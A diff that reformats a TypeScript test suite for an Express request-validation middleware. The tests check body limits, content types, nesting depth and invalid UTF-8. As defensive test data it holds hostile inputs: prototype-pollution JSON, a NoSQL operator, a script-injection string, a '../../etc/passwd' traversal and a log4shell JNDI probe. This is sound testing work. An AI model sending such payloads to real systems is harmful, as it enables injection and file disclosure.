@@ -8,11 +8,18 @@ import { tempDir } from './support/temp-dir.ts';
 describe.each(EXPRESS_VERSIONS)('request bodies and validation on %s', (_name, createApp) => {
   async function setup(env: Record<string, string> = {}) {
     const dir = tempDir();
-    const fixture = securityFixture(dir, { LOOKOUT_BODY_LIMIT_BYTES: '2048', LOOKOUT_JSON_MAX_DEPTH: '8', ...env });
+    const fixture = securityFixture(dir, {
+      LOOKOUT_BODY_LIMIT_BYTES: '2048',
+      LOOKOUT_JSON_MAX_DEPTH: '8',
+      ...env,
+    });
     const secure = await buildSecureApp(createApp, fixture.config);
     const server = await listen(secure.app);
-    const post = (body: string, headers: Record<string, string> = { 'content-type': 'application/json' }, path = '/echo') =>
-      fetch(`${server.url}${path}`, { method: 'POST', headers, body });
+    const post = (
+      body: string,
+      headers: Record<string, string> = { 'content-type': 'application/json' },
+      path = '/echo',
+    ) => fetch(`${server.url}${path}`, { method: 'POST', headers, body });
     return {
       ...secure,
       url: server.url,
@@ -37,11 +44,15 @@ describe.each(EXPRESS_VERSIONS)('request bodies and validation on %s', (_name, c
   it('rejects unknown fields and lists every problem without echoing values', async () => {
     await using t = await setup();
 
-    const response = await t.post(JSON.stringify({ item: 7, quantity: 0, isAdmin: true, price: 0.01, secretValue: 'hunter2' }));
+    const response = await t.post(
+      JSON.stringify({ item: 7, quantity: 0, isAdmin: true, price: 0.01, secretValue: 'hunter2' }),
+    );
 
     expect(response.status).toBe(400);
     expect(response.headers.get('content-type')).toMatch(/^application\/problem\+json/);
-    const problem = (await response.json()) as { errors: { in: string; path: string; code: string }[] };
+    const problem = (await response.json()) as {
+      errors: { in: string; path: string; code: string }[];
+    };
     expect(problem.errors.map((e) => [e.in, e.path, e.code]).sort()).toEqual([
       ['body', '', 'unrecognized_keys'],
       ['body', 'item', 'invalid_type'],
@@ -62,7 +73,10 @@ describe.each(EXPRESS_VERSIONS)('request bodies and validation on %s', (_name, c
 
     expect(response.status).toBe(400);
     const problem = (await response.json()) as { errors: { in: string; code: string }[] };
-    expect(problem.errors.map((e) => `${e.in}:${e.code}`).sort()).toEqual(['query:invalid_value', 'query:unrecognized_keys']);
+    expect(problem.errors.map((e) => `${e.in}:${e.code}`).sort()).toEqual([
+      'query:invalid_value',
+      'query:unrecognized_keys',
+    ]);
   });
 
   it('answers 413 for a body over the limit, announced or streamed', async () => {
@@ -77,22 +91,26 @@ describe.each(EXPRESS_VERSIONS)('request bodies and validation on %s', (_name, c
     expect(streamed).toBe(413);
   });
 
-  it.each([
-    'text/plain',
-    'application/x-www-form-urlencoded',
-    'application/json; charset=latin1',
-  ])('answers 415 for content type %s', async (contentType) => {
-    await using t = await setup();
+  it.each(['text/plain', 'application/x-www-form-urlencoded', 'application/json; charset=latin1'])(
+    'answers 415 for content type %s',
+    async (contentType) => {
+      await using t = await setup();
 
-    const response = await t.post(JSON.stringify({ item: 'a', quantity: 1 }), { 'content-type': contentType });
+      const response = await t.post(JSON.stringify({ item: 'a', quantity: 1 }), {
+        'content-type': contentType,
+      });
 
-    expect(response.status).toBe(415);
-  });
+      expect(response.status).toBe(415);
+    },
+  );
 
   it('answers 415 for a compressed body', async () => {
     await using t = await setup();
 
-    const response = await t.post('{}', { 'content-type': 'application/json', 'content-encoding': 'gzip' });
+    const response = await t.post('{}', {
+      'content-type': 'application/json',
+      'content-encoding': 'gzip',
+    });
 
     expect(response.status).toBe(415);
   });
@@ -113,7 +131,9 @@ describe.each(EXPRESS_VERSIONS)('request bodies and validation on %s', (_name, c
 
     const deep = await t.post(`${'['.repeat(50)}${']'.repeat(50)}`);
     const proto = await t.post('{"item":"a","quantity":1,"__proto__":{"isAdmin":true}}');
-    const escapedProto = await t.post('{"item":"a","quantity":1,"\\u005f_proto__":{"isAdmin":true}}');
+    const escapedProto = await t.post(
+      '{"item":"a","quantity":1,"\\u005f_proto__":{"isAdmin":true}}',
+    );
 
     expect([deep.status, proto.status, escapedProto.status]).toEqual([400, 400, 400]);
     expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
@@ -122,7 +142,10 @@ describe.each(EXPRESS_VERSIONS)('request bodies and validation on %s', (_name, c
   it('answers 400, not a crash, for invalid UTF-8', async () => {
     await using t = await setup();
 
-    const status = await postRaw(`${t.url}/echo`, Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x7d]));
+    const status = await postRaw(
+      `${t.url}/echo`,
+      Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x7d]),
+    );
 
     expect(status).toBe(400);
   });
@@ -134,6 +157,7 @@ describe.each(EXPRESS_VERSIONS)('request bodies and validation on %s', (_name, c
       '{"$gt": ""}',
       '<script>alert(1)</script>',
       '../../etc/passwd',
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, as data
       '${jndi:ldap://x/a}',
       '\u202e\u0000\ud83d\ude00\u2028\ufeff',
       'ﬁ' + 'e\u0301',
@@ -150,11 +174,17 @@ describe.each(EXPRESS_VERSIONS)('request bodies and validation on %s', (_name, c
 /** Posts `parts` with Transfer-Encoding: chunked (no Content-Length) and returns the status. */
 function postChunked(url: string, parts: string[]): Promise<number> {
   return new Promise((resolve, reject) => {
-    const req = request(url, { method: 'POST', headers: { 'content-type': 'application/json' } }, (res) => {
-      res.resume();
-      resolve(res.statusCode ?? 0);
-    });
-    req.on('error', (error: NodeJS.ErrnoException) => (error.code === 'ECONNRESET' ? undefined : reject(error)));
+    const req = request(
+      url,
+      { method: 'POST', headers: { 'content-type': 'application/json' } },
+      (res) => {
+        res.resume();
+        resolve(res.statusCode ?? 0);
+      },
+    );
+    req.on('error', (error: NodeJS.ErrnoException) =>
+      error.code === 'ECONNRESET' ? undefined : reject(error),
+    );
     for (const part of parts) req.write(part);
     req.end();
   });
